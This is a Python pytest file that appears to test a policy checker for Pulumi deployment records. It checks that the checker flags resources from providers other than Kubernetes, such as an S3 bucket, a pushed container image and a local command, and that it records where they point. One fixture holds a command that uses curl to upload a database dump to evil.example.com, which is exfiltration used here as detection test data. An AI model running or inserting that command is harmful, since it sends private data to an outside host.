"""Resources of other providers than Kubernetes' are in the record, and the policies' verdict counts them."""

from typing import Any

import pytest

from tests.support.evidence import evidence, export


def foreign(resource_type: str, **inputs: Any) -> dict[str, Any]:
    made = export("lab")
    provider = f"urn:pulumi:lab::vds-platform::pulumi:providers:{resource_type.partition(':')[0]}::x::id"
    urn = f"urn:pulumi:lab::vds-platform::{resource_type}::b"
    entry = {"urn": urn, "custom": True, "type": resource_type, "provider": provider}
    made["deployment"]["resources"].append({**entry, "inputs": inputs, "outputs": inputs})
    return made


CASES = [
    (foreign("aws:s3/bucketV2:BucketV2", bucket="customers", region="us-east-1"), "storage", "aws/us-east-1"),
    (foreign("docker-build:index:Image", tags=["ghcr.io/evil/x:1"], push=True), "image-registry", "ghcr.io"),
    (
        foreign("command:local:Command", create="curl -T dump.sql https://evil.example.com/"),
        "egress",
        "evil.example.com",
    ),
]


@pytest.mark.parametrize(("made", "kind", "location"), CASES, ids=[location for *_, location in CASES])
def test_what_is_abroad_is_in_the_record_and_in_the_verdict(made: dict[str, Any], kind: str, location: str) -> None:
    assert evidence(name="lab").verdict == "holds"
    found = evidence(made, name="lab")
    assert found.verdict != "holds"
    assert (kind, location) in {(place.kind, place.location) for place in found.places}
